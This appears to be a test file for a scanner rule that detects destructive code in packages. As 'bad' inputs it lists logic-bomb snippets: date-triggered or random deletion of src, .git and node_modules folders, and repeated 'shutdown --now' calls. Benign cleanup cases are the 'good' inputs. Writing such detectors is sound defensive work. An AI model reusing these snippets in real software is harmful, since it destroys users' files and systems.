import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../destroyed-files.rule.js';

/** Of `destroyed-files`, what waits for a day. */
const worst = (text: string) => findingsOf(rule, { 'a.mjs': text })[0]?.severity ?? 'nothing';

test('bad: from a day on, or by chance, what people work on is removed, or the computer is shut down', () => {
  for (const code of [
    'const due = new Date(2025, 5, 19); if (new Date() > due) { import("node:fs").then((fs) => { for (const d of ["src", "node_modules"]) fs.rm(d, { recursive: true, force: true }); }) }',
    'import { exec } from "node:child_process"; if (Date.now() > 1767225600000) setInterval(() => exec("shutdown --now"), 1000)',
    'import fs from "node:fs"; import path from "node:path"; export function setup() { if (new Date() < new Date("2026-03-01")) return; fs.rmSync(path.join(process.cwd(), "src"), { recursive: true }) }',
    'import { execSync } from "node:child_process"; const DAY = new Date("2026-05-01"); const isOver = () => new Date() >= DAY; export const run = () => { isOver() && execSync("rm -rf ./src .git") }',
    'import { rimraf } from "rimraf"; const work = ["lib", "test"]; export const build = () => { if (Math.random() < 0.01) work.forEach((each) => rimraf.sync(each)) }',
    'import { spawn } from "node:child_process"; if (new Date().getFullYear() >= 2027) spawn("rm", ["-rf", "src"])',
    'import { promises } from "node:fs"; if (Date.now() > Date.UTC(2026, 3, 1)) { await promises.rm(".git", { recursive: true }) }',
  ]) assert.equal(worst(code), 'high', code);
});

test('good: caches by their age, what was built, what somebody asks for, and messages from a day on', () => {
  for (const code of [
    'import fs from "node:fs"; for (const f of fs.readdirSync(".cache")) if (fs.statSync(`.cache/${f}`).mtimeMs < Date.now() - 864e5) fs.rmSync(`.cache/${f}`)',
    'import fs from "node:fs"; if (new Date() > new Date("2026-01-01")) fs.rmSync("dist", { recursive: true })',
    'import fs from "node:fs"; import path from "node:path"; if (Date.now() > 1767225600000) fs.rmSync(path.join("src", "generated"), { recursive: true })',
    'import fs from "node:fs"; export const clean = (folder) => { console.log(new Date("2026-01-01")); fs.rmSync("src", { recursive: true }) }',
    'import { exec } from "node:child_process"; if (new Date() > new Date("2026-01-01")) exec("git status"); export const off = () => exec("shutdown --now")',
    'if (new Date() > new Date("2026-01-01")) console.warn("This version is no longer supported")',
    'import fs from "node:fs"; const roll = Math.random(); if (roll < 0.1) fs.rmSync("/tmp/trial", { recursive: true })',
  ]) assert.equal(worst(code), 'nothing', code);
});
